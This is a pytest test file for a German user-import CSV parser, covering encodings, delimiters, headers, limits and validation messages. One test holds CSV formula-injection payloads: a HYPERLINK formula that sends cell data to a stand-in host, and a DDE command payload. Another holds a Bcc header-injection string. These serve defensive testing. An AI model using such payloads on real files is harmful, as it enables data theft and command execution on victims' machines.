"""Reading the CSV lists German Excel writes: encodings, delimiters, headers, limits,
and every row checked with the rules of the "Nutzer anlegen" form."""

from __future__ import annotations

import codecs

import pytest

from web.csv_import import CsvFileError, parse

HEADER = "Anrede;Vorname;Nachname;E-Mail\r\n"


def rows_of(text: str, encoding: str = "utf-8", **limits):
    return parse(text.encode(encoding), **limits).rows


def test_utf8_without_bom():
    parsed = parse((HEADER + "Frau;Anna;Müller;a.mueller@example.org\r\n").encode())
    assert parsed.encoding == "UTF-8" and parsed.delimiter == ";"
    (row,) = parsed.rows
    assert (row.line, row.salutation, row.first_name, row.last_name, row.email) == (2, "Frau", "Anna", "Müller", "a.mueller@example.org")
    assert row.valid


def test_utf8_with_bom_as_excel_csv_utf8_writes_it():
    data = codecs.BOM_UTF8 + (HEADER + "Herr;Jörg;Weiß;j.weiss@example.org\r\n").encode()
    parsed = parse(data)
    assert parsed.encoding == "UTF-8"
    assert parsed.rows[0].first_name == "Jörg" and parsed.rows[0].last_name == "Weiß" and parsed.rows[0].valid


def test_windows_1252_semicolons_with_umlauts():
    text = HEADER + "Frau;Anna;Müller;a.mueller@example.org\r\nHerr;Jürgen;Größer-Öztürk;jg@example.org\r\n"
    parsed = parse(text.encode("cp1252"))
    assert parsed.encoding == "Windows-1252" and parsed.delimiter == ";"
    assert [r.last_name for r in parsed.rows] == ["Müller", "Größer-Öztürk"]
    assert all(r.valid for r in parsed.rows)


def test_comma_separated_file_and_header_variants():
    text = "anrede,VORNAME,Nachname,E-Mail-Adresse,Telefon\nfrau,Anna,Müller,A.Mueller@Example.ORG,0301234\n"
    parsed = parse(text.encode())
    assert parsed.delimiter == ","
    assert parsed.ignored_columns == ["Telefon"]
    (row,) = parsed.rows
    assert row.salutation == "Frau"  # the form's spelling
    assert row.email == "A.Mueller@example.org"  # domain normalised as the form does
    assert row.valid


@pytest.mark.parametrize("email_header", ["Email", "E-Mail", "e-mail-adresse", "E-Mail Adresse", "Mail", "email address"])
def test_common_names_of_the_address_column(email_header):
    (row,) = rows_of(f"Anrede;Vorname;Nachname;{email_header}\nFrau;Anna;Müller;a@example.org\n")
    assert row.email == "a@example.org"


def test_excel_separator_hint_line():
    rows = rows_of("sep=,\nAnrede,Vorname,Nachname,E-Mail\nFrau,Anna,Müller,a@example.org\n")
    assert rows[0].valid and rows[0].line == 3


def test_columns_in_any_order_and_blank_rows_skipped():
    text = "E-Mail;Nachname;Vorname;Anrede\n;;;\na@example.org;Müller;Anna;Frau\n\n;;;\nb@example.org;Tester;Bernd;Herr\n"
    rows = rows_of(text)
    assert [(r.line, r.first_name) for r in rows] == [(3, "Anna"), (6, "Bernd")]


@pytest.mark.parametrize(
    ("header", "message"),
    [
        ("Vorname;Nachname;E-Mail", "In der Kopfzeile fehlt die Spalte „Anrede“."),
        ("Anrede;Vorname;Nachname", "In der Kopfzeile fehlt die Spalte „E-Mail“."),
        ("Anrede;Name;Mail", "fehlen die Spalten „Vorname“ und „Nachname“."),
        ("Frau;Anna;Müller;a@example.org", "Die erste Zeile der Datei muss die Spaltennamen Anrede, Vorname, Nachname und E-Mail enthalten"),
        ("Anrede;Vorname;Nachname;E-Mail;Email", "Die Spalte „E-Mail“ kommt in der Kopfzeile mehrfach vor."),
    ],
)
def test_missing_or_doubled_columns_are_named_in_german(header, message):
    with pytest.raises(CsvFileError) as caught:
        parse(f"{header}\nFrau;Anna;Müller;a@example.org\n".encode())
    assert message in caught.value.message and not caught.value.too_large


def test_too_many_rows():
    text = HEADER + "".join(f"Frau;Anna;Müller;a{i}@example.org\n" for i in range(11))
    assert len(rows_of(text, max_rows=11)) == 11
    with pytest.raises(CsvFileError) as caught:
        rows_of(text, max_rows=10)
    assert "mehr als 10 Personen" in caught.value.message and not caught.value.too_large


def test_too_many_bytes():
    with pytest.raises(CsvFileError) as caught:
        parse((HEADER + "Frau;Anna;Müller;a@example.org\n").encode(), max_bytes=20)
    assert caught.value.too_large and "zu groß" in caught.value.message


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "Die Datei ist leer."),
        (b"  \r\n", "Die Datei ist leer."),
        (HEADER.encode(), "nur die Kopfzeile"),
        (b"PK\x03\x04\x14\x00\x06\x00", "Excel-Arbeitsmappe"),
        ("Anrede;Vorname".encode("utf-16"), "keine CSV-Textdatei"),
        (b"Anrede;Vorname;Nachname;E-Mail\nFrau;A\x00;B;c@example.org\n", "keine CSV-Textdatei"),
        (codecs.BOM_UTF8 + b"Anrede;Vorname;Nachname;E-Mail\nFrau;M\xfcller;B;c@example.org\n", "ungültige Zeichen"),
        (b"Anrede;Vorname;Nachname;E-Mail\nFrau;\x81\x8d;B;c@example.org\n", "weder UTF-8 noch Windows-1252"),
    ],
)
def test_unusable_files_get_a_german_message(data, message):
    with pytest.raises(CsvFileError) as caught:
        parse(data)
    assert message in caught.value.message


def test_quoted_fields_may_hold_the_delimiter_and_quotes():
    text = HEADER + '"Frau";"Anna; Maria";"O\'Brien";"a@example.org"\r\nHerr;"Hans ""Jo""";Meier;h@example.org\r\n'
    first, second = rows_of(text)
    assert first.first_name == "Anna; Maria" and first.last_name == "O'Brien"
    assert "nur Buchstaben" in " ".join(first.problems)  # ";" is not part of a name
    assert second.first_name == 'Hans "Jo"' and not second.valid


def test_an_unquoted_delimiter_in_a_value_is_reported_on_its_row():
    (row,) = rows_of(HEADER + "Frau;Anna;Müller;a@example.org;zu viel\n")
    assert any("mehr Felder als die Kopfzeile" in p for p in row.problems)


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("http://evil.example/?x="&A1;"Klick")', "=1+2", "+49 30 1234", "@SUM(A1:A2)", "=cmd|' /C calc'!A0"],
)
def test_formula_like_values_stay_text_and_are_refused_as_names(value):
    quoted = '"' + value.replace('"', '""') + '"'
    (row,) = rows_of(HEADER + f"Frau;{quoted};Müller;a@example.org\n")
    assert row.first_name == value  # kept exactly as text, never evaluated
    assert row.problems == ["Der Vorname darf nur Buchstaben, Leerzeichen, Bindestriche und Apostrophe enthalten."]


def test_every_row_gets_the_forms_messages():
    text = HEADER + (
        "Majestät;Anna;Müller;a@example.org\n"
        ";;;keine-adresse\n"
        "Frau;R2-D2;Müller;a..b@example.org\n"
        f"Herr;{'A' * 101};B;x@localhost\n"
    )
    rows = rows_of(text)
    assert rows[0].problems == ["Die Anrede muss „Frau“, „Herr“, „Divers“ oder „keine Angabe“ lauten."]
    assert rows[1].problems == [
        "Die Anrede muss „Frau“, „Herr“, „Divers“ oder „keine Angabe“ lauten.",
        "Bitte geben Sie den Vornamen ein.",
        "Bitte geben Sie den Nachnamen ein.",
        "Bitte geben Sie eine gültige E-Mail-Adresse ein, zum Beispiel b.tester@beispiel.de.",
    ]
    assert rows[2].problems[0].startswith("Der Vorname darf nur Buchstaben") and "gültige E-Mail-Adresse" in rows[2].problems[1]
    assert "höchstens 100 Zeichen" in rows[3].problems[0]


def test_line_breaks_inside_a_quoted_value_are_refused_and_line_numbers_stay_right():
    text = HEADER + 'Frau;"Anna\nBcc: evil@example.org";Müller;a@example.org\nHerr;Bernd;Tester;b@example.org\n'
    first, second = rows_of(text)
    assert "keine Zeilenumbrüche" in first.problems[0]
    assert "\n" not in first.first_name  # shown on one line
    assert (first.line, second.line) == (2, 4)


def test_duplicates_inside_the_file_point_to_the_first_row():
    text = HEADER + "Frau;Anna;Müller;a@example.org\nFrau;Anna;Müller;A@EXAMPLE.org\nHerr;Bernd;Tester;b@example.org\n"
    first, second, third = rows_of(text)
    assert first.valid and third.valid
    assert second.problems == ["Diese E-Mail-Adresse steht bereits in Zeile 2 der Datei."]


def test_a_corrected_row_after_an_invalid_one_is_not_a_duplicate():
    text = HEADER + "Frau;R2D2;Müller;a@example.org\nFrau;Anna;Müller;a@example.org\n"
    first, second = rows_of(text)
    assert not first.valid and second.valid


def test_international_domains_are_normalised_like_the_form():
    (row,) = rows_of(HEADER + "Frau;Zoë;d’Arc;z@Bücher.de\n")
    assert row.valid and row.email == "z@xn--bcher-kva.de"


def test_very_long_values_are_shortened_for_display():
    (row,) = rows_of(HEADER + f"Frau;{'A' * 5000};Müller;a@example.org\n")
    assert len(row.first_name) == 260 and row.first_name.endswith("…") and not row.valid
